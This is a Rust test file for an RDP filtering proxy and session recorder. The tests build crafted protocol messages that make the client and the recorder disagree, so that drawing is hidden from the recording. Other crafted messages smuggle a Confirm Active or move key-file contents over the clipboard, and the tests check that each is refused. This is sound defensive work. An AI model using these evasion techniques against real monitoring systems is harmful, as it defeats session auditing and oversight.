        assert_eq!(played.from_client(&send_data(1005, rdpsnd(t, body))).unwrap(), Verdict::Forward, "{t}");
    }
    let mut granted = fresh();
    granted.redirection = grant.with(Class::AudioInput);
    for pdu in [rdpsnd(39, &negotiate), rdpsnd(42, &samples)] {
        assert_eq!(granted.from_client(&send_data(1005, pdu)).unwrap(), Verdict::Forward);
    }
    // With audio input granted the target's SNDC_REC_START reaches the client (the channel
    // carries a granted class); without, it ends the session like any message sound out does
    // not define.
    assert_eq!(granted.from_target(&send_indication(1005, rdpsnd(40, &[0; 4]))).unwrap(), Verdict::Forward);
    assert_eq!(f.from_target(&send_indication(1005, rdpsnd(40, &[0; 4]))).unwrap(), Verdict::Refuse(AUDIO_REFUSED));
    // A grant without audio does not open `rdpsnd` at all.
    assert!(!channels::static_allowed(Redirection::default(), b"rdpsnd\0\0"));
}

/// FreeRDP 2.11 and 3's reading of a Bitmap update's rectangles (`update_read_bitmap_update` →
/// `update_read_bitmap_data`, libfreerdp/core/update.c): with BITMAP_COMPRESSION and a
/// compression header, the data read is `cbCompMainBodySize` bytes
/// (`bitmapData->bitmapLength = bitmapData->cbCompMainBodySize`), whatever bitmapLength said.
/// Returns each rectangle's left, top, flags and data.
fn freerdp_bitmap_rectangles(update: &[u8]) -> Vec<(u16, u16, u16, Vec<u8>)> {
    let u16_at = |at: usize| u16::from_le_bytes([update[at], update[at + 1]]);
    assert_eq!(u16_at(0), 1, "updateType BITMAP");
    let mut at = 4;
    let mut rects = Vec::new();
    for _ in 0..u16_at(2) {
        let (left, top, flags) = (u16_at(at), u16_at(at + 2), u16_at(at + 14));
        let mut length = usize::from(u16_at(at + 16));
        at += 18;
        if flags & 0x0001 != 0 && flags & 0x0400 == 0 {
            length = usize::from(u16_at(at + 2)); // cbCompMainBodySize
            at += 8;
        }
        rects.push((left, top, flags, update[at..at + length].to_vec()));
        at += length;
    }
    rects
}

/// A compressed rectangle whose bitmapLength and cbCompMainBodySize disagree ends the session
/// (was: forwarded). FreeRDP reads `cbCompMainBodySize`
/// bytes of a rectangle with a compression header; IronRDP (`BitmapData::decode`, the recorder's
/// parser) reads `bitmapLength` - 8. A target states a bitmapLength that also covers the next
/// rectangle FreeRDP reads: FreeRDP draws two red squares (an RDP6 planar one, then a raw one);
/// the recorder takes both as the first rectangle's data and draws the second rectangle it
/// reads, a green square the client never sees; nothing counted as a gap. The filter reads every
/// rectangle header and refuses one the two read differently.
#[test]
fn a_compressed_rectangle_whose_lengths_disagree_ends_the_session() {
    const RED: [u8; 4] = [0, 0, 255, 0];
    const GREEN: [u8; 4] = [0, 255, 0, 0];
    // An 8x8 RDP6 planar stream (FreeRDP `planar_decompress`): FormatHeader NA (no alpha, raw,
    // RGB), the R, G and B planes, a pad byte.
    let mut planar = vec![0x20];
    for value in [255u8, 0, 0] {
        planar.extend([value; 64]);
    }
    planar.push(0);
    // The raw red square FreeRDP reads second, and the green one the recorder reads second.
    let raw = |bgrx: [u8; 4]| {
        let mut r = Vec::new();
        for v in [0u16, 0, 7, 7, 8, 8, 32, 0, 256] {
            r.extend(v.to_le_bytes());
        }
        for _ in 0..64 {
            r.extend(bgrx);
        }
        r
    };
    let (red_raw, green_raw) = (raw(RED), raw(GREEN));
    let mut update = 1u16.to_le_bytes().to_vec(); // updateType BITMAP
    update.extend(2u16.to_le_bytes()); // numberRectangles
    // Rectangle 1: BITMAP_COMPRESSION with a TS_CD_HEADER. bitmapLength: the header, the planar
    // stream and FreeRDP's second rectangle; cbCompMainBodySize: the planar stream alone.
    let bitmap_length = 8 + planar.len() + red_raw.len();
    for v in [0u16, 0, 7, 7, 8, 8, 32, 0x0001, u16::try_from(bitmap_length).unwrap()] {
        update.extend(v.to_le_bytes());
    }
    for v in [0u16, u16::try_from(planar.len()).unwrap(), 32, 256] {
        update.extend(v.to_le_bytes()); // cbCompFirstRowSize, cbCompMainBodySize, cbScanWidth, size
    }
    update.extend(&planar);
    update.extend(&red_raw);
    update.extend(&green_raw);

    // FreeRDP: a planar red square, then the raw red square; the green bytes are never read.
    let rects = freerdp_bitmap_rectangles(&update);
    assert_eq!(rects.len(), 2);
    assert_eq!((rects[0].2, &rects[0].3), (0x0001, &planar));
    assert_eq!((rects[1].2, &rects[1].3[..]), (0, &red_raw[18..]));

    let mut body = vec![0x01];
    body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
    body.extend(&update);
    let frame = fast_path(&body);
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(BITMAP_AMBIGUOUS));
    // The same rectangles in a slow-path Update PDU: refused too.
    let mut slow = 0u16.to_le_bytes().to_vec();
    slow.extend(0x0017u16.to_le_bytes());
    slow.extend(1002u16.to_le_bytes());
    slow.extend(0x0001_03EAu32.to_le_bytes());
    slow.extend([0x00, 0x01]);
    slow.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
    slow.extend([0x02, 0x00, 0x00, 0x00]);
    slow.extend(&update);
    let total = u16::try_from(slow.len()).unwrap().to_le_bytes();
    slow[..2].copy_from_slice(&total);
    assert_eq!(
        filter(true).from_target(&send_indication(1003, slow.clone())).unwrap(),
        Verdict::Refuse(BITMAP_AMBIGUOUS)
    );
    // Control: with bitmapLength = 8 + cbCompMainBodySize (the green bytes dropped, so the
    // rectangles fill the update) both read the same two rectangles, and it passes both ways.
    let consistent = u16::try_from(8 + planar.len()).unwrap().to_le_bytes();
    let mut good = update.clone();
    good[20..22].copy_from_slice(&consistent);
    good.truncate(good.len() - green_raw.len());
    let mut body = vec![0x01];
    body.extend(u16::try_from(good.len()).unwrap().to_le_bytes());
    body.extend(&good);
    assert_eq!(filter(true).from_target(&fast_path(&body)).unwrap(), Verdict::Forward);

    // What it prevents: the recorder draws green where the client shows red.
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let updates = decoder.observe_target(&frame).unwrap();
    assert!(updates.iter().any(|u| matches!(u, crate::decode::Update::Frame { .. })), "{updates:?}");
    let s = decoder.screen().unwrap();
    let at = 4 * s.stride + 4 * 4;
    assert_eq!([s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]], [0, 255, 0], "the recording shows green");
}

/// Drawing between a Deactivate All and the next Demand Active ends the session (was: slow-path
/// bitmaps there were forwarded). FreeRDP 2.11's `rdp_recv_deactivate_all` moves the client to
/// CONNECTION_STATE_CAPABILITIES_EXCHANGE and keeps reading; there
/// `rdp_client_connect_demand_active` hands every PDU that is not a Demand Active to
/// `rdp_recv_out_of_sequence_pdu`, which gives a Data PDU to `rdp_recv_data_pdu` →
/// `update_recv` → the bitmap is drawn (FreeRDP 3 the same way). The decoder's `Deactivated`
/// phase passed such a PDU over without a word: a target could deactivate once and draw for the
/// rest of the session unrecorded. No server draws in that window (xrdp and Windows send the
/// Demand Active right behind the Deactivate All), so the filter refuses slow-path Update and
/// Pointer PDUs and every fast-path PDU there.
#[test]
fn drawing_between_deactivate_all_and_demand_active_ends_the_session() {
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let ids = decoder.session_ids().expect("active");
    let share = |body: &[u8], kind: u16| {
        let mut pdu = u16::try_from(6 + body.len()).unwrap().to_le_bytes().to_vec();
        pdu.extend(kind.to_le_bytes());
        pdu.extend(1002u16.to_le_bytes());
        pdu.extend(body);
        send_indication(ids.io_channel_id, pdu)
    };
    // Deactivate All: shareId, lengthSourceDescriptor 1, sourceDescriptor.
    let mut deactivate = ids.share_id.to_le_bytes().to_vec();
    deactivate.extend([1, 0, 0]);
    let deactivate = share(&deactivate, 0x0016);
    // A Data PDU, Update BITMAP: the green 8x8 square at (0, 0).
    let update = bitmap_update(0, 0, [0, 255, 0, 0]);
    let mut data = ids.share_id.to_le_bytes().to_vec();
    data.extend([0, 1]); // pad1, streamId STREAM_LOW
    data.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
    data.extend([0x02, 0]); // pduType2 UPDATE, no compression
    data.extend(0u16.to_le_bytes());
    data.extend(&update);
    let bitmap = share(&data, 0x0017);
    // The same square fast-path, and a Pointer PDU (pduType2 POINTER, system pointer hidden).
    let mut body = vec![0x01];
    body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
    body.extend(&update);
    let fast = fast_path(&body);
    let mut pointer = data.clone();
    pointer.truncate(12);
    pointer[8] = 0x1B;
    pointer.extend([1, 0, 0, 0, 0, 0, 0, 0]);
    let pointer = share(&pointer, 0x0017);
    // A minimal Demand Active (the filter reads its type).
    let mut demand = ids.share_id.to_le_bytes().to_vec();
    demand.extend([1, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let demand = share(&demand, 0x0011);

    let deactivated = || {
        let mut f = filter(true);
        f.io_channel = Some(ids.io_channel_id);
        assert!(matches!(f.from_target(&deactivate).unwrap(), Verdict::Forward | Verdict::Replace(_)));
        f
    };
    for (what, frame) in [("slow-path bitmap", &bitmap), ("fast-path bitmap", &fast), ("pointer", &pointer)] {
        assert_eq!(deactivated().from_target(frame).unwrap(), Verdict::Refuse(DRAWN_WHILE_DEACTIVATED), "{what}");
    }
    // Controls: once the Demand Active has passed, each draws again; the bitmap is one the
    // decoder draws.
    let mut f = deactivated();
    assert!(matches!(f.from_target(&demand).unwrap(), Verdict::Forward | Verdict::Replace(_)));
    for frame in [&bitmap, &fast, &pointer] {
        // Slow-path ones pass re-encoded (red team h-red17m, hole 4).
        assert!(matches!(f.from_target(frame).unwrap(), Verdict::Forward | Verdict::Replace(_)));
    }
    let pixel = |d: &crate::decode::PassiveDecoder| {
        let s = d.screen().unwrap();
        let at = 4 * s.stride + 4 * 4;
        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
    };
    assert_ne!(pixel(&decoder), [0, 255, 0]);
    decoder.observe_target(&bitmap).unwrap();
    assert_eq!(pixel(&decoder), [0, 255, 0], "control: the bitmap is decodable");
}

/// A fast-path Bitmap update of one 8x8 rectangle at (0, 0) in RDP6 planar (32 bpp,
/// BITMAP_COMPRESSION with a TS_CD_HEADER whose cbScanWidth is `scan_width`), every pixel red.
fn planar_red_update(scan_width: u16) -> Vec<u8> {
    let mut planar = vec![0x20]; // FormatHeader: no alpha, raw planes, RGB
    for value in [255u8, 0, 0] {
        planar.extend([value; 64]);
    }
    planar.push(0); // pad
    let mut update = 1u16.to_le_bytes().to_vec();
    update.extend(1u16.to_le_bytes());
    for v in [0u16, 0, 7, 7, 8, 8, 32, 0x0001, u16::try_from(8 + planar.len()).unwrap()] {
        update.extend(v.to_le_bytes());
    }
    for v in [0u16, u16::try_from(planar.len()).unwrap(), scan_width, 256] {
        update.extend(v.to_le_bytes());
    }
    update.extend(&planar);
    let mut body = vec![0x01];
    body.extend(u16::try_from(update.len()).unwrap().to_le_bytes());
    body.extend(&update);
    fast_path(&body)
}

/// A compressed bitmap whose TS_CD_HEADER has a cbScanWidth that is not a multiple of 4, or a
/// cbCompFirstRowSize that is not 0, ends the session (was: forwarded, and not recorded).
/// FreeRDP reads both fields and uses neither (`update_read_bitmap_data`;
/// `gdi_Bitmap_Decompress` decodes with the bitmap's width and height), so it draws the bitmap.
/// IronRDP's `CompressedDataHeader::decode` rejects them with an InvalidField error, and
/// `FastPathProcessor::process_single_update` turns an InvalidField into "Ignoring invalid
/// Fast-Path update": the whole update (every rectangle in it) was dropped with no error, no gap
/// counted, no refresh asked. A target hid any compressed bitmap from the recording with one
/// byte.
#[test]
fn a_compressed_bitmap_with_an_odd_scan_width_or_a_first_row_size_ends_the_session() {
    let mut decoder = crate::decode::PassiveDecoder::new();
    for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
        match tag {
            b'C' => decoder.observe_client(pdu).unwrap(),
            b'T' => drop(decoder.observe_target(pdu).unwrap()),
            _ => {}
        }
    }
    let pixel = |d: &crate::decode::PassiveDecoder| {
        let s = d.screen().unwrap();
        let at = 4 * s.stride + 4 * 4;
        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
    };
    // cbScanWidth 30: FreeRDP reads the same rectangle and data (the model reads what
    // `update_read_bitmap_data` reads) and draws it.
    let frame = planar_red_update(30);
    // The update after the fast-path header (3 bytes) and the update header and size (3).
    let rects = freerdp_bitmap_rectangles(&frame[6..]);
    assert_eq!((rects.len(), rects[0].3.len()), (1, 194));
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Refuse(BITMAP_AMBIGUOUS));
    // cbCompFirstRowSize 1 (the TS_CD_HEADER's first field, after the 18-byte rectangle header).
    let mut first_row = planar_red_update(32);
    first_row[6 + 4 + 18] = 1;
    assert_eq!(filter(true).from_target(&first_row).unwrap(), Verdict::Refuse(BITMAP_AMBIGUOUS));
    // Control: with cbScanWidth 32 it passes and the recorder draws the red square.
    let good = planar_red_update(32);
    assert_eq!(filter(true).from_target(&good).unwrap(), Verdict::Forward);
    assert_ne!(pixel(&decoder), [0, 0, 255]);
    decoder.observe_target(&good).unwrap();
    assert_eq!(pixel(&decoder), [0, 0, 255], "control: the planar square is decodable");
}

/// Before activation a client message the filter cannot read to its end is refused (was: it
/// passed whole, so a Confirm Active followed by one stray byte reached the target untrimmed).
/// xrdp clears `is_security_header_present` on the client's licence PDU and sends its Demand
/// Active; a client that sends its Confirm Active right behind its licence PDU (one write: the
/// box's client pump judges both before the Demand Active comes back) had it judged while the
/// filter was not active. xrdp's `xrdp_rdp_recv` reads the Confirm Active (the stray byte is
/// "bad RDP packet", skipped) and `xrdp_caps_process_confirm_active` takes its orders. Before
/// activation only a Client Info and licence PDUs cross the I/O channel now.
#[test]
fn a_client_message_before_activation_is_a_client_info_or_a_licence_pdu() {
    // A source descriptor that keeps INFO_PKT (0x40) out of totalLength, as an attacker would
    // (the filter takes a header with that bit for a Client Info).
    let confirm = (5..80).map(|n| confirm_active_with_orders_from(&"M".repeat(n))).find(|c| c[0] & 0x40 == 0).unwrap();
    assert!(offers_orders(&confirm));
    let mut data = confirm.clone();
    data.push(0x00);
    for early in [&data, &confirm] {
        let verdict = filter(false).from_client(&send_data(1003, early.clone())).unwrap();
        assert_eq!(verdict, Verdict::Refuse(CLIENT_UNREADABLE));
    }
    // After activation the stray byte is refused too, and the Confirm Active alone is trimmed.
    assert_eq!(filter(true).from_client(&send_data(1003, data)).unwrap(), Verdict::Refuse(CLIENT_UNREADABLE));
    let Verdict::Replace(out) = filter(true).from_client(&send_data(1003, confirm)).unwrap() else {
        panic!("not trimmed")
    };
    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
    assert!(!offers_orders(&req.user_data));
}

/// Fast-path bitmap and palette updates are read as both peers read them: a bitmap under the
/// palette code (FreeRDP goes by the updateType inside, IronRDP by the code), fragments out of
/// sequence or of two codes, a truncated or overlong update, a zero-sized rectangle, an unknown
/// update code, encryption flags: each ends the session. A bitmap split over fragments is read
/// across them.
#[test]
fn fast_path_updates_are_read_as_every_peer_reads_them() {
    let update = bitmap_update(0, 0, [0, 0, 255, 0]);
    let one = |header: u8, data: &[u8]| {
        let mut u = vec![header];
        u.extend(u16::try_from(data.len()).unwrap().to_le_bytes());
        u.extend(data);
        u
    };
    let judge = |f: &mut Filter, body: &[u8]| f.from_target(&fast_path(body)).unwrap();
    assert_eq!(judge(&mut filter(true), &one(0x01, &update)), Verdict::Forward, "control");
    // Under the palette code.
    assert_eq!(judge(&mut filter(true), &one(0x02, &update)), Verdict::Refuse(UPDATE_CODE_MISMATCH));
    // Truncated, and one byte too many.
    assert_eq!(judge(&mut filter(true), &one(0x01, &update[..update.len() - 1])), Verdict::Refuse(BITMAP_AMBIGUOUS));
    let mut long = update.clone();
    long.push(0);
    assert_eq!(judge(&mut filter(true), &one(0x01, &long)), Verdict::Refuse(BITMAP_AMBIGUOUS));
    // A zero width.
    let mut empty = update.clone();
    empty[12..14].fill(0);
    assert_eq!(judge(&mut filter(true), &one(0x01, &empty)), Verdict::Refuse(BITMAP_AMBIGUOUS));
    // Code 7 (undefined), and a PDU with the encryption flag.
    assert_eq!(judge(&mut filter(true), &one(0x07, &[0; 4])), Verdict::Refuse(TARGET_UNREADABLE));
    let mut encrypted = fast_path(&one(0x01, &update));
    encrypted[0] |= 0x80;
    assert_eq!(filter(true).from_target(&encrypted).unwrap(), Verdict::Refuse(TARGET_UNREADABLE));
    // Fragments: first, next, last across three PDUs, split inside a rectangle header and its
    // data, pass; a next with no first, a first during a first, a single during a first, a
    // last with another code: refused.
    let (a, b) = update.split_at(9);
    let (b, c) = b.split_at(30);
    let mut f = filter(true);
    for (header, part) in [(0x21, a), (0x31, b), (0x11, c)] {
        assert_eq!(judge(&mut f, &one(header, part)), Verdict::Forward);
    }
    let mut f = filter(true);
    assert_eq!(judge(&mut f, &one(0x31, b)), Verdict::Refuse(TARGET_UNREADABLE), "next with no first");
    for second in [one(0x21, a), one(0x01, &update), one(0x13, c)] {
        let mut f = filter(true);
        assert_eq!(judge(&mut f, &one(0x21, a)), Verdict::Forward);
        assert_eq!(judge(&mut f, &second), Verdict::Refuse(TARGET_UNREADABLE), "{second:?}");
    }
    // A fragmented bitmap whose last fragment is cut short.
    let mut f = filter(true);
    assert_eq!(judge(&mut f, &one(0x21, a)), Verdict::Forward);
    assert_eq!(judge(&mut f, &one(0x11, &b[..4])), Verdict::Refuse(BITMAP_AMBIGUOUS));
}

/// Files do not cross the clipboard on a grant without drives (the report's untested note: a
/// clipboard-only grant carried file contents both ways, CB_FILECONTENTS_REQUEST/RESPONSE, the
/// way `--drives` would). File contents end the session either way, the Clipboard Capabilities
/// lose CB_STREAM_FILECLIP_ENABLED in place so stock peers never offer files, and text passes.
#[test]
fn file_contents_do_not_cross_the_clipboard_without_drives() {
    let with = |redirection: Redirection| {
        let mut f = filter(true);
        f.redirection = redirection;
        f.decisions = vec![ChannelDecision { name: "cliprdr".into(), id: 1004, allowed: true }];
        f
    };
    let clip = |msg_type: u16, body: &[u8]| {
        let mut pdu = msg_type.to_le_bytes().to_vec();
        pdu.extend(0u16.to_le_bytes()); // msgFlags
        pdu.extend(u32::try_from(body.len()).unwrap().to_le_bytes());
        pdu.extend(body);
        let mut chunk = u32::try_from(pdu.len()).unwrap().to_le_bytes().to_vec();
        chunk.extend(3u32.to_le_bytes());
        chunk.extend(pdu);
        chunk
    };
    // CB_FILECONTENTS_REQUEST: streamId, lindex, FILECONTENTS_RANGE, position, cbRequested.
    let mut request = Vec::new();
    for v in [1u32, 0, 2, 0, 0, 65536] {
        request.extend(v.to_le_bytes());
    }
    let mut response = 1u32.to_le_bytes().to_vec(); // streamId, then the file's bytes
    response.extend(b"id_rsa contents");
    let clipboard_only = Redirection::default();
    for (what, pdu) in [("request", clip(8, &request)), ("response", clip(9, &response))] {
        assert_eq!(
            with(clipboard_only).from_client(&send_data(1004, pdu.clone())).unwrap(),
            Verdict::Refuse(CLIPBOARD_FILES),
            "{what}"
        );
        assert_eq!(
            with(clipboard_only).from_target(&send_indication(1004, pdu.clone())).unwrap(),
            Verdict::Refuse(CLIPBOARD_FILES),
            "{what}"
        );
        // Control: with drives granted, files cross.
        let drives = clipboard_only.with(Class::Drives);
        assert_eq!(with(drives).from_client(&send_data(1004, pdu)).unwrap(), Verdict::Forward, "{what}");
    }
    // The type hidden in a second chunk: a first chunk shorter than the header is refused.
    let whole = clip(9, &response);
    let mut first = whole[..9].to_vec();
    first[..4].copy_from_slice(&u32::try_from(whole.len() - 8).unwrap().to_le_bytes());
    first[4] = 1; // CHANNEL_FLAG_FIRST
    assert_eq!(with(clipboard_only).from_client(&send_data(1004, first)).unwrap(), Verdict::Refuse(CLIPBOARD_FILES));
    // Clipboard Capabilities: one general set (version 2, CB_USE_LONG_FORMAT_NAMES |
    // CB_STREAM_FILECLIP_ENABLED | CB_FILECLIP_NO_FILE_PATHS) lose the file flag in place.
    let mut caps = 1u16.to_le_bytes().to_vec();
    caps.extend([0, 0]);
    caps.extend(1u16.to_le_bytes());
    caps.extend(12u16.to_le_bytes());
    caps.extend(2u32.to_le_bytes());
    caps.extend(0x0000_000Eu32.to_le_bytes());
    let frame = send_indication(1004, clip(7, &caps));
    let Verdict::Replace(out) = with(clipboard_only).from_target(&frame).unwrap() else { panic!("caps not patched") };
    assert_eq!(out.len(), frame.len());
    assert_eq!(out[out.len() - 4..], 0x0000_000Au32.to_le_bytes());
    // Text: a Format List and a Format Data Response pass.
    for pdu in [clip(2, &[0x0D, 0, 0, 0, 0, 0]), clip(5, b"h\0i\0\0\0")] {
        assert_eq!(with(clipboard_only).from_client(&send_data(1004, pdu)).unwrap(), Verdict::Forward);
    }
}
